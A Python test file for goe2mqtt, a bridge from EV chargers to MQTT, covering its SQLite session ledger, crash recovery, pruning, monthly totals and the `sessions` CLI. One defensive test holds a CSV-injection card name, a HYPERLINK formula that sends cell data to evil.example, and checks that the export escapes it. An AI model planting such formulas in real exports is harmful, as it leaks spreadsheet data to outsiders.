"""The session ledger's store, its books and what the bridge publishes of them: the
file's rules, progress in batches, resuming after a crash, months and cards, the
session topics, pruning and `goe2mqtt sessions`."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import stat
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import structlog.testing

from goe2mqtt.bridge.ledger_out import LedgerOutput, Publisher
from goe2mqtt.config.settings import Settings, parse_settings
from goe2mqtt.config.tariff import TariffSettings
from goe2mqtt.ledger.books import Ledger
from goe2mqtt.ledger.store import SessionStore, StoreUnusable
from goe2mqtt.mqtt.topics import Topics
from tests.unit.test_ledger import T0, Clock, feed, status, tracker


def ledger_at(path: Path, clock: Clock, keep_days: int = 3650) -> Ledger:
    """The books over the store at ``path``, on the fake clock (wall and monotonic)."""
    return Ledger(SessionStore(path), keep_days=keep_days, clock=lambda: clock.now,
                  monotonic=lambda: clock.mono)  # fmt: skip


def ledger_output(tmp_path: Path, clock: Clock | None = None,
                  **more: Any) -> tuple[Settings, LedgerOutput]:  # fmt: skip
    """The bridge's ledger output, not opened yet, for settings with ``tmp_path`` as the
    state_dir and one charger, garage (``more``: other settings); on the fake wall clock
    if one is given."""
    garage = {"name": "garage", "host": "127.0.0.1"}
    settings = parse_settings(
        {"mqtt": {"host": "localhost"}, "state_dir": str(tmp_path), "chargers": [garage], **more}
    )
    if clock is None:
        return settings, LedgerOutput(Topics("base"))
    return settings, LedgerOutput(Topics("base"), clock=lambda: clock.now)


@contextlib.asynccontextmanager
async def output_running(out: LedgerOutput, broker: Publisher) -> AsyncIterator[None]:
    """``out`` running against ``broker`` for the block; stopped and closed after it."""
    stop = asyncio.Event()
    running = asyncio.create_task(out.run(broker, stop))
    try:
        yield
    finally:
        stop.set()
        running.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await running
        out.close()


# --- the store ---------------------------------------------------------------------------


def test_the_store_is_private_wal_and_keeps_one_open_session_per_charger(tmp_path: Path) -> None:
    path = tmp_path / "state" / "goe2mqtt.sessions"
    store = SessionStore(path)
    t, clock = tracker(), Clock()
    session = feed(t, clock, status(eto=100_000)).opened[0]
    store.save([session])
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert store._db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert store._db.execute("PRAGMA synchronous").fetchone()[0] == 2  # FULL
    other = feed(tracker(), clock, status(eto=5)).opened[0]
    with pytest.raises(StoreUnusable, match="UNIQUE"):  # a second open one: refused
        store.save([other])
    other.charger = "carport"
    store.save_progress([other])  # progress of one never stored: saved whole
    assert {s.charger for s in store.open_sessions()} == {"garage", "carport"}
    store.close()
    reader = SessionStore(path, read_only=True)
    assert {s.id for s in reader.open_sessions()} == {session.id, other.id}
    reader.close()


def test_books_write_progress_in_batches_and_resume_after_a_restart(tmp_path: Path) -> None:
    path = tmp_path / "goe2mqtt.sessions"
    clock = Clock()
    ledger = ledger_at(path, clock)
    books = ledger.books_for("garage", TariffSettings(price_per_kwh=0.5))
    books.observe(status(eto=100_000), serial="012345")
    assert ledger.commit() == 1  # opened: on disk before anything is published
    for eto in range(100_100, 101_100, 100):
        clock.advance(5)
        books.observe(status(eto=eto), serial="012345")
    assert ledger.write_progress() == 0  # written at the opening, 50 s ago
    stored = SessionStore(path, read_only=True)
    assert stored.open_sessions()[0].eto_last == 100_000  # progress not yet written
    clock.advance(10)
    books.observe(status(eto=101_500), serial="012345")
    assert ledger.write_progress() == 1  # 60 s after the opening
    assert stored.open_sessions()[0].eto_last == 101_500
    # The process dies (nothing more written); the next one resumes the session.
    ledger2 = ledger_at(path, clock)
    books2 = ledger2.books_for("garage", TariffSettings(price_per_kwh=0.5))
    assert books2.open is not None
    assert books2.open.eto_start == 100_000
    clock.advance(60)
    books2.observe(status(eto=102_000), serial="012345")
    clock.advance(5)
    books2.observe(status(car=1, eto=102_000), serial="012345")
    assert list(ledger2.ended) == []  # queued for session/ended once on disk
    assert ledger2.commit() == 1
    assert books2.open is None
    assert books2.last is not None
    assert books2.last.energy_wh == 2000
    assert books2.last.cost == pytest.approx(1.0)
    assert [s.id for s in ledger2.ended] == [books2.last.id]
    assert books2.states()["@last_session_energy"] == 2.0
    assert books2.states()["@month_energy"] == 2.0
    assert books2.states()["@card_0_month_energy"] == 0.0
    ledger2.announced(books2.last)
    assert stored.unannounced() == []
    stored.close()


def test_the_month_and_card_totals_come_from_the_books(tmp_path: Path) -> None:
    clock = Clock()
    ledger = ledger_at(tmp_path / "s", clock)
    books = ledger.books_for("garage", TariffSettings(price_per_kwh=0.5, timezone="UTC"))
    eto = 100_000
    for card in (1, 2, 1):
        books.observe(status(eto=eto, trx=card), serial=None)
        clock.advance(600)
        eto += 1000
        books.observe(status(eto=eto, trx=card), serial=None)
        books.observe(status(car=1, eto=eto), serial=None)
        ledger.commit()
        clock.advance(600)
    states = books.states()
    assert states["@month_energy"] == 3.0
    assert states["@month_cost"] == 1.5
    assert states["@card_0_month_energy"] == 2.0
    assert states["@card_1_month_energy"] == 1.0
    # The same month from the file, as a restart finds it.
    again = Ledger(SessionStore(tmp_path / "s"), clock=lambda: clock.now)
    assert again.store.totals_since("garage", T0 - 86_400) == (3000.0, 1.5, {0: 2000.0, 1: 1000.0})


def test_a_month_with_no_priced_session_has_no_cost_in_the_summary(tmp_path: Path) -> None:
    """Without a tariff the Cost this month sensor is null and each session's cost empty,
    but `sessions --summary` said 0.00 EUR for the month: as if the energy was free."""
    from goe2mqtt.ledger import report
    from goe2mqtt.ledger.pricing import zone

    clock = Clock()
    ledger = Ledger(SessionStore(tmp_path / "s"), clock=lambda: clock.now,
                    monotonic=lambda: clock.mono)  # fmt: skip
    for name, tariff in (("carport", TariffSettings(price_per_kwh=0.5, timezone="UTC")),
                         ("garage", TariffSettings(timezone="UTC"))):  # fmt: skip
        books, eto = ledger.books_for(name, tariff), 100_000
        books.observe(status(eto=eto), serial=None)
        clock.advance(600)
        books.observe(status(car=1, eto=eto + 1000), serial=None)
        ledger.commit()
        assert (books.states()["@month_cost"] is None) is (name == "garage")
    store = SessionStore(tmp_path / "s", read_only=True)
    rows = report.summary(store, "month,charger", zone("UTC"), filters={})
    assert [(r[1], r[6], r[7]) for r in rows] == [("carport", 0.5, 0), ("garage", None, 1)]
    csv_lines = report.summary_text(rows, "month,charger", "csv").splitlines()
    assert csv_lines[2].split(",")[6] == ""
    assert json.loads(report.summary_text(rows, "month,charger", "json"))[1]["cost"] is None
    table = report.summary_text(rows, "month,charger", "table").splitlines()
    assert table[2].split()[6] == "-"
    store.close()


def test_a_session_not_acknowledged_before_a_crash_is_published_again(tmp_path: Path) -> None:
    path = tmp_path / "goe2mqtt.sessions"
    clock = Clock()
    ledger = ledger_at(path, clock)
    books = ledger.books_for("garage", TariffSettings())
    books.observe(status(eto=100_000), serial=None)
    clock.advance(60)
    books.observe(status(car=1, eto=100_500), serial=None)
    ledger.commit()
    [ended] = ledger.ended
    # The process dies before the broker's PUBACK: the next one owes it, same id.
    again = Ledger(SessionStore(path), clock=lambda: clock.now)
    assert [s.id for s in again.ended] == [ended.id]
    assert again.ended[0].energy_wh == 500
    again.announced(again.ended[0])
    assert list(Ledger(SessionStore(path)).ended) == []  # acknowledged: never again


def test_progress_commits_are_capped_the_longest_waiting_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import goe2mqtt.ledger.books as books_module

    monkeypatch.setattr(books_module, "PROGRESS_BATCH", 2)
    clock = Clock()
    ledger = ledger_at(tmp_path / "s", clock)
    fleet = [ledger.books_for(name, TariffSettings()) for name in ("a", "b", "c")]
    for books in fleet:
        books.observe(status(eto=100_000), serial=None)
        clock.advance(1)
    ledger.commit()
    clock.advance(120)
    for books in fleet:
        books.observe(status(eto=100_100), serial=None)
    assert ledger.write_progress() == 2
    assert [b.progress_due for b in fleet] == [False, False, True]  # a and b waited longest
    assert ledger.write_progress() == 1  # c with the next call
    stored = SessionStore(tmp_path / "s", read_only=True).open_sessions()
    assert {s.charger: s.eto_last for s in stored} == {"a": 100_100, "b": 100_100, "c": 100_100}


def two_sessions_20_days_apart(ledger: Ledger, clock: Clock) -> None:
    """A minute's session, then 20 days, twice: both ended, neither announced yet."""
    books = ledger.books_for("garage", TariffSettings())
    for _ in range(2):
        books.observe(status(eto=100_000), serial=None)
        clock.advance(60)
        books.observe(status(car=1, eto=100_000), serial=None)
        ledger.commit()
        clock.advance(20 * 86_400)


def test_sessions_older_than_keep_days_are_pruned_once_announced(tmp_path: Path) -> None:
    clock = Clock()
    ledger = ledger_at(tmp_path / "s", clock, keep_days=30)
    two_sessions_20_days_apart(ledger, clock)
    first, second = ledger.ended
    ledger.announced(first)
    assert ledger.prune() == 1  # 40 days old and announced
    ledger.announced(second)
    assert ledger.prune() == 0  # 20 days old: kept
    assert [s.id for s in ledger.store.sessions()] == [second.id]


def test_a_clock_stepped_years_ahead_prunes_only_as_time_really_passes(tmp_path: Path) -> None:
    """An RTC reset or a bad NTP server steps the wall clock 10 years ahead: by it every
    session is past keep_days. The history must stay, across restarts too (the horizon
    is kept in the file), and age only as the monotonic clock sees time pass."""
    path, clock = tmp_path / "s", Clock()
    ledger = ledger_at(path, clock, keep_days=35)
    books = ledger.books_for("garage", TariffSettings())
    for _ in range(3):  # sessions 10 days apart, the last one 0 days old
        books.observe(status(eto=100_000), serial=None)
        clock.advance(60)
        books.observe(status(car=1, eto=100_000), serial=None)
        ledger.commit()
        clock.advance(10 * 86_400)
    for session in list(ledger.ended):
        ledger.announced(session)
    assert ledger.prune() == 0  # all within 35 days
    ledger.store.close()
    # Restarted on a clock 10 years ahead; a session is seen (and stored) on that clock.
    clock.now += 3650 * 86_400
    with structlog.testing.capture_logs() as logs:
        ledger = ledger_at(path, clock, keep_days=35)
        books = ledger.books_for("garage", TariffSettings())
        books.observe(status(eto=100_000), serial=None)
        clock.advance(60)
        books.observe(status(car=1, eto=100_000), serial=None)
        ledger.commit()
        ledger.announced(ledger.ended[-1])
        assert ledger.prune() == 0
    assert len(ledger.store.sessions()) == 4
    held = [e for e in logs if e["event"] == "ledger_prune_held"]
    assert held
    assert held[0]["ahead_days"] > 3000
    ledger.store.close()
    # Another restart on the wrong clock: the newest session (years ahead) moves nothing.
    ledger = ledger_at(path, clock, keep_days=35)
    assert ledger.prune() == 0
    # 10 days really pass: the first session (40 days old by then) goes, the others stay.
    clock.advance(10 * 86_400)
    assert ledger.prune() == 1
    assert len(ledger.store.sessions()) == 3


def test_a_file_from_before_the_horizon_was_kept_starts_from_its_newest_session(
    tmp_path: Path,
) -> None:
    """A sessions file of an earlier version has no prune horizon: the first start on a
    clock stepped years ahead takes its newest session's start (plus a day) for now."""
    path, clock = tmp_path / "s", Clock()
    ledger = ledger_at(path, clock, keep_days=35)
    two_sessions_20_days_apart(ledger, clock)
    for session in list(ledger.ended):
        ledger.announced(session)
    assert ledger.store.prune_horizon() is not None  # kept from the first start on
    ledger.store._db.execute("DELETE FROM facts")  # a file from before it was kept
    ledger.store.close()
    clock.now += 3650 * 86_400
    ledger = ledger_at(path, clock, keep_days=35)
    assert ledger.prune() == 0  # by the clock both are 10 years old
    # 16 days really pass: the first goes (56 days old; the horizon started from the
    # newest start, 20 days before the restart: kept longer, never less).
    clock.advance(16 * 86_400)
    assert ledger.prune() == 1


class Channel:
    """What the ledger's publisher publishes to (no broker in the unit tier)."""

    connected = True

    def __init__(self) -> None:
        self.retained: list[tuple[str, bytes]] = []
        self.sent: list[tuple[str, bytes]] = []

    async def publish_retained(self, topic: str, payload: str | bytes) -> None:
        self.retained.append((topic, payload.encode() if isinstance(payload, str) else payload))

    async def publish_once(self, topic: str, payload: str | bytes) -> None:
        self.sent.append((topic, payload.encode() if isinstance(payload, str) else payload))


async def test_the_session_topic_at_once_on_news_and_at_most_every_10_s_while_it_flows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import goe2mqtt.bridge.ledger_out as ledger_out

    clock = Clock()
    monkeypatch.setattr(ledger_out.time, "monotonic", lambda: clock.mono)
    settings, out = ledger_output(tmp_path, clock)
    ledger = out.open(settings)
    books = ledger.books_for("garage", TariffSettings())
    channel = Channel()

    async def publish_round() -> list[dict[str, Any]]:
        channel.retained.clear()
        assert out._commit()
        await out._session_topics(channel)
        await out._ended(channel)
        return [json.loads(p) for t, p in channel.retained if t == "base/garage/session"]

    books.observe(status(eto=100_000), serial=None)
    assert [s["open"] for s in await publish_round()] == [True]  # opened: at once
    clock.advance(4)
    books.observe(status(eto=100_010), serial=None)
    assert await publish_round() == []  # flowing: not within 10 s
    clock.advance(6)
    assert [s["energy_wh"] for s in await publish_round()] == [10.0]
    clock.advance(1)
    books.observe(status(car=1, eto=100_010), serial=None)
    assert [s["open"] for s in await publish_round()] == [False]  # ended: at once
    assert [t for t, _ in channel.sent] == ["base/garage/session/ended"]
    assert ledger.store.unannounced() == []  # acknowledged, and written so
    out.close()


def test_the_session_topics_pace_touches_only_chargers_with_news_or_due() -> None:
    """Issue 32: the publisher walked every charger's books each second (~1 % of a core
    at 10 000 chargers); now it is told which have news, and keeps the rest waiting."""
    from goe2mqtt.bridge.ledger_out import TopicPace

    pace = TopicPace(every=10.0)
    assert pace.due([("a", True), ("b", False)], 100.0) == ["a", "b"]  # b: never sent
    pace.sent("a", 100.0)
    pace.sent("b", 100.0)
    assert pace.due([("a", False), ("b", False)], 104.0) == []  # flowing: within 10 s
    assert pace.due([("a", False)], 105.0) == []  # news again: still one wait
    assert pace.due([("b", True)], 106.0) == ["b"]  # urgent: at once, wait or not
    pace.sent("b", 106.0)
    assert pace.due([], 109.9) == []
    assert pace.due([("a", False)], 110.0) == ["a"]  # its wait over: once
    pace.sent("a", 110.0)
    assert pace.due([], 116.0) == []  # b's old wait ended by the urgent sending
    assert pace.due([], 500.0) == []  # no news: nothing, however long since
    assert pace._queue == []  # and nothing kept for it
    assert pace._waiting == {}


def test_a_session_counts_in_the_month_it_started_so_the_month_never_drops(
    tmp_path: Path,
) -> None:
    clock = Clock()
    clock.now = 1_796_083_200.0 - 1800  # 2026-11-30T23:30:00Z
    ledger = ledger_at(tmp_path / "s", clock)
    books = ledger.books_for("garage", TariffSettings(price_per_kwh=0.5, timezone="UTC"))
    books.observe(status(eto=100_000), serial=None)
    clock.advance(1200)
    books.observe(status(eto=102_000), serial=None)
    assert books.states()["@month_energy"] == 2.0  # still November
    clock.advance(1200)  # December now
    books.observe(status(eto=104_000), serial=None)
    assert books.states()["@session_energy"] == 4.0
    assert books.states()["@month_energy"] == 0.0  # November's session: not December's
    clock.advance(60)
    books.observe(status(car=1, eto=104_000), serial=None)
    assert books.states()["@month_energy"] == 0.0  # and no drop when it ends
    assert books.states()["@last_session_energy"] == 4.0


def test_a_new_month_starts_the_month_totals_afresh_while_the_charger_idles(
    tmp_path: Path,
) -> None:
    # November's session closed; December comes with no car: "energy this month" must
    # not show November's figures until the next car arrives.
    clock = Clock()
    clock.now = 1_796_083_200.0 - 7200  # 2026-11-30T22:00:00Z
    ledger = ledger_at(tmp_path / "s", clock)
    books = ledger.books_for("garage", TariffSettings(price_per_kwh=0.5, timezone="UTC"))
    books.observe(status(eto=100_000, trx=1), serial=None)
    clock.advance(1200)
    books.observe(status(eto=102_000, trx=1), serial=None)
    books.observe(status(car=1, eto=102_000), serial=None)
    ledger.commit()
    november = books.states()
    assert (november["@month_energy"], november["@month_cost"]) == (2.0, 1.0)
    assert november["@card_0_month_energy"] == 2.0
    clock.advance(2 * 86_400)  # December 2nd: the charger idles, the same status
    books.observe(status(car=1, eto=102_000), serial=None)
    december = books.states()
    assert (december["@month_energy"], december["@month_cost"]) == (0.0, 0.0)
    assert december["@card_0_month_energy"] == 0.0
    assert december["@last_session_energy"] == 2.0  # the last session stays the last


def sessions_config(folder: Path, client_id: str, *more: dict[str, Any]) -> Path:
    """A config for ``goe2mqtt sessions``: the ledger in ``folder`` (client_id.sessions),
    0.5 a kWh in Vienna, the garage and ``more`` chargers."""
    import yaml

    raw = {"mqtt": {"host": "localhost", "client_id": client_id}, "state_dir": str(folder),
           "tariff": {"price_per_kwh": 0.5, "timezone": "Europe/Vienna"},
           "chargers": [{"name": "garage", "host": "127.0.0.1"}, *more]}  # fmt: skip
    config = folder / "config.yaml"
    config.write_text(yaml.safe_dump(raw))
    return config


def test_the_sessions_command_filters_by_charger_day_and_card(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from goe2mqtt.cli import main

    config = sessions_config(tmp_path, "books")
    assert main(["sessions", "--config", str(config)]) == 1  # no ledger yet: said so
    assert "no ledger yet" in capsys.readouterr().err
    clock = Clock()  # Monday 2026-11-30, 01:53 in Vienna
    ledger = ledger_at(tmp_path / "books.sessions", clock)
    books = {n: ledger.books_for(n, TariffSettings(price_per_kwh=0.5)) for n in ("a", "b")}
    for day, (name, card) in enumerate([("a", 1), ("a", 2), ("b", 2)]):
        clock.now = T0 + day * 86_400
        books[name].observe(status(eto=100_000, trx=card), serial=None)
        clock.advance(600)
        books[name].observe(status(eto=101_000 + day, trx=card), serial=None)
        books[name].observe(status(car=1, eto=101_000 + day), serial=None)
        ledger.commit()

    def sessions(*args: str) -> list[dict[str, Any]]:
        capsys.readouterr()  # the ledger's own log lines above
        assert main(["sessions", "--config", str(config), "--format", "json", *args]) == 0
        return list(json.loads(capsys.readouterr().out))

    assert [s["energy_wh"] for s in sessions()] == [1000, 1001, 1002]
    assert [s["energy_wh"] for s in sessions("--charger", "b")] == [1002]
    assert [s["energy_wh"] for s in sessions("--card", "Bob")] == [1001, 1002]
    assert [s["energy_wh"] for s in sessions("--since", "2026-12-01")] == [1001, 1002]
    assert [s["energy_wh"] for s in sessions("--until", "2026-11-30")] == [1000]
    capsys.readouterr()
    assert main(["sessions", "--config", str(config), "--summary", "month,charger",
                 "--format", "csv"]) == 0  # fmt: skip
    assert capsys.readouterr().out.splitlines() == [
        "month,charger,sessions,energy_kwh,grid_kwh,pv_kwh,cost,unpriced,currency",
        "2026-11,a,1,1.000,1.000,0.000,0.50,0,EUR",
        "2026-12,a,1,1.001,1.001,0.000,0.50,0,EUR",
        "2026-12,b,1,1.002,1.002,0.000,0.50,0,EUR",
    ]
    assert main(["sessions", "--config", str(config), "--since", "30.11.2026"]) == 2
    capsys.readouterr()
    # A charger neither configured nor on the books: said, not an empty table.
    assert main(["sessions", "--config", str(config), "--charger", "garge"]) == 2
    said = capsys.readouterr()
    assert said.out == ""
    assert "no charger 'garge' in the config or on the books (known: a, b, garage)" in said.err
    ledger.store.close()


def test_a_card_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() -> None:
    # Card names come from the charger (whoever names cards in the app); the CSV is
    # made for a spreadsheet, which runs a cell beginning = + - @ as a formula
    # (CSV injection: =HYPERLINK(...) sends whoever clicks to a stranger's site).
    import csv
    import io

    from goe2mqtt.ledger.record import Session
    from goe2mqtt.ledger.report import as_csv, summary_text

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
    session = Session(id="garage-1", charger="garage", serial="+43123", started=T0,
                      eto_start=0.0, eto_last=1000.0, seen_at=T0, currency="EUR",
                      priced=True, card=hostile, card_slot=1, cost_so_far=-0.5)  # fmt: skip
    text = as_csv([session], T0)
    assert text.count("\r\n") == 2  # RFC 4180: a header and a row, each ended CRLF
    assert text.endswith("\r\n")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["card"] == "'" + hostile
    assert row["serial"] == "'+43123"
    assert row["cost"] == "-0.50"  # a number stays a number, negative or not
    assert row["energy_wh"] == "1000.0"
    text = summary_text([("2026-11", "@SUM(1)", 1, 1.0, 1.0, 0.0, -0.5, 0, "EUR")], "month,card",
                        "csv")  # fmt: skip
    assert text.splitlines()[1] == "2026-11,'@SUM(1),1,1.000,1.000,0.000,-0.50,0,EUR"
    # JSON is not a spreadsheet: the name stays as the charger gave it.
    assert summary_text([("2026-11", "@SUM(1)", 1, 1.0, 1.0, 0.0, 0.5, 0, "EUR")], "month,card",
                        "json").count('"@SUM(1)"') == 1  # fmt: skip


class FrozenBroker(Channel):
    """A broker that took the connection but answers nothing: a QoS 2 publish never
    completes (the chaos soak's frozen broker, issue 28)."""

    async def publish_once(self, topic: str, payload: str | bytes) -> None:
        self.sent.append((topic, payload.encode() if isinstance(payload, str) else payload))
        await asyncio.Event().wait()


async def test_a_frozen_broker_does_not_stop_the_books_reaching_the_disk(tmp_path: Path) -> None:
    # session/ended waits for the broker's PUBCOMP; while it waits, the next session's
    # opening and its progress must still be written (a kill -9 then loses nothing).
    from tests.conftest import until

    settings, out = ledger_output(tmp_path)
    books = out.open(settings).books_for("garage", TariffSettings())
    broker = FrozenBroker()
    async with output_running(out, broker):
        on_disk = SessionStore(tmp_path / "goe2mqtt.sessions", read_only=True)
        with contextlib.closing(on_disk):
            books.observe(status(eto=100_000), serial=None)
            books.observe(status(car=1, eto=100_500), serial=None)
            await until(lambda: broker.sent != [], "session/ended sent (never acknowledged)")
            books.observe(status(eto=100_500), serial=None)  # the next car
            await until(lambda: len(on_disk.open_sessions()) == 1, "the next session on disk")
            assert [s.ended is not None for s in on_disk.sessions()] == [True, False]


def test_until_includes_the_whole_day_on_the_days_the_clocks_change() -> None:
    # --until 2026-10-25 in Vienna: that day has 25 hours (the clocks go back), so its
    # last hour is not within 24 h of its start; 2026-03-29 has 23.
    from zoneinfo import ZoneInfo

    from goe2mqtt.ledger.report import day_end, day_start

    vienna = ZoneInfo("Europe/Vienna")
    for day, following in (("2026-10-25", "2026-10-26"), ("2026-03-29", "2026-03-30"),
                           ("2026-11-30", "2026-12-01")):  # fmt: skip
        assert day_end(day, vienna) == day_start(following, vienna)
    assert day_end("2026-10-25", vienna) - day_start("2026-10-25", vienna) == 25 * 3600
    assert day_end("2026-12-31", None) == day_start("2027-01-01", None)


def test_sessions_until_a_25_hour_day_lists_its_last_hour(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from goe2mqtt.cli import main

    config = sessions_config(tmp_path, "dst")
    clock = Clock()
    clock.now = 1_792_967_400.0  # 2026-10-25T22:30:00Z: 23:30 in Vienna, the same day
    ledger = ledger_at(tmp_path / "dst.sessions", clock)
    books = ledger.books_for("garage", TariffSettings(price_per_kwh=0.5))
    books.observe(status(eto=100_000), serial=None)
    clock.advance(600)
    books.observe(status(car=1, eto=101_000), serial=None)
    ledger.commit()
    capsys.readouterr()
    assert main(["sessions", "--config", str(config), "--format", "json",
                 "--since", "2026-10-25", "--until", "2026-10-25"]) == 0  # fmt: skip
    assert [s["energy_wh"] for s in json.loads(capsys.readouterr().out)] == [1000]
    ledger.store.close()


def test_an_open_session_of_a_charger_no_longer_configured_is_closed_at_start(
    tmp_path: Path,
) -> None:
    """A charger removed from the config while its car charged: its session is closed at
    the next start as last seen (not open forever), and goes out on session/ended."""
    path = tmp_path / "goe2mqtt.sessions"
    clock = Clock()
    ledger = ledger_at(path, clock)
    for name in ("garage", "carport"):
        books = ledger.books_for(name, TariffSettings(price_per_kwh=0.5))
        books.observe(status(eto=100_000), serial=None)
        clock.advance(60)
        books.observe(status(eto=101_000), serial=None)
    ledger.commit()
    ledger.write_progress(everything=True)
    seen = clock.now
    ledger.store.close()
    clock.advance(3600)
    # The next start: carport is gone from the config.
    again = ledger_at(path, clock)
    garage = again.books_for("garage", TariffSettings(price_per_kwh=0.5))
    [closed] = again.close_removed()
    assert garage.open is not None  # the configured one goes on
    assert closed.charger == "carport"
    assert (closed.end_reason, closed.ended) == ("charger_removed", seen)
    assert closed.energy_wh == 1000
    assert closed.cost == pytest.approx(0.5)
    assert again.commit() == 1
    assert [s.id for s in again.ended] == [closed.id]  # announced on session/ended
    stored = SessionStore(path, read_only=True)
    assert [s.charger for s in stored.open_sessions()] == ["garage"]
    stored.close()
    assert again.close_removed() == []  # once


def test_a_file_from_before_connected_ms_gets_the_column_and_its_sessions_read(
    tmp_path: Path,
) -> None:
    import sqlite3

    from goe2mqtt.ledger import store as store_module

    path = tmp_path / "goe2mqtt.sessions"
    column = store_module._SCHEMA.index(",\n    connected_ms")
    old_schema = store_module._SCHEMA[:column] + "\n);" + store_module._SCHEMA.split(");", 1)[1]
    assert "connected_ms" not in old_schema
    db = sqlite3.connect(path)
    db.executescript(old_schema)
    db.execute(
        "INSERT INTO sessions (id, charger, started, seen_at, energy_grid_wh, energy_pv_wh,"
        " cost_so_far, unpriced_wh, priced, currency, card, flags, eto_start, eto_last)"
        " VALUES ('a', 'garage', 1, 1, 0, 0, 0, 0, 0, 'EUR', 'none', '[]', 5, 7)"
    )
    db.commit()
    db.close()
    reader = SessionStore(path, read_only=True)  # before any daemon added the column
    assert [(s.id, s.connected_ms) for s in reader.open_sessions()] == [("a", None)]
    reader.close()
    store = SessionStore(path)
    [session] = store.open_sessions()
    session.connected_ms = 42
    store.save_progress([session])
    assert store.open_sessions()[0].connected_ms == 42
    store.close()


def test_the_sessions_command_reads_each_chargers_days_and_months_in_its_own_zone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The barn has a tariff of its own in New York: 2026-12-01T03:00Z is still
    November 30 there, and December 1 in Vienna, the global tariff's zone."""
    from goe2mqtt.cli import main

    barn = {"name": "barn", "host": "127.0.0.2",
            "tariff": {"price_per_kwh": 0.2, "currency": "USD",
                       "timezone": "America/New_York"}}  # fmt: skip
    config = sessions_config(tmp_path, "zones", barn)
    clock = Clock()
    ledger = ledger_at(tmp_path / "zones.sessions", clock)
    books = {n: ledger.books_for(n, TariffSettings(price_per_kwh=0.5)) for n in ("garage", "barn")}
    dec_1_0300z = 1_796_094_000.0  # 04:00 on Dec 1 in Vienna, 22:00 on Nov 30 in New York
    for name, started in (("garage", dec_1_0300z - 2 * 86_400), ("garage", dec_1_0300z),
                          ("barn", dec_1_0300z)):  # fmt: skip
        clock.now = started
        books[name].observe(status(eto=100_000, trx=2), serial=None)
        clock.advance(600)
        books[name].observe(status(eto=101_000, trx=2), serial=None)
        books[name].observe(status(car=1, eto=101_000), serial=None)
        ledger.commit()
    capsys.readouterr()

    def run(*args: str) -> tuple[str, str]:
        assert main(["sessions", "--config", str(config), "--format", "csv", *args]) == 0
        captured = capsys.readouterr()
        return captured.out, captured.err

    out, err = run("--summary", "month,charger")
    assert out.splitlines()[1:] == [
        "2026-11,barn,1,1.000,1.000,0.000,0.50,0,EUR",
        "2026-11,garage,1,1.000,1.000,0.000,0.50,0,EUR",
        "2026-12,garage,1,1.000,1.000,0.000,0.50,0,EUR",
    ]
    assert "days and months in Europe/Vienna (garage); America/New_York (barn)" in err
    out, _ = run("--summary", "month,card")  # Bob's November: at both chargers
    assert out.splitlines()[1:] == [
        "2026-11,Bob,2,2.000,2.000,0.000,1.00,0,EUR",
        "2026-12,Bob,1,1.000,1.000,0.000,0.50,0,EUR",
    ]
    out, _ = run("--since", "2026-12-01")
    assert [line.split(",")[1] for line in out.splitlines()[1:]] == ["garage"]
    out, _ = run("--until", "2026-11-30")
    assert sorted(line.split(",")[1] for line in out.splitlines()[1:]) == ["barn", "garage"]
    out, err = run("--charger", "barn", "--summary", "month,card")
    assert out.splitlines()[1:] == ["2026-11,Bob,1,1.000,1.000,0.000,0.50,0,EUR"]
    assert "days and months in America/New_York" in err
    ledger.store.close()
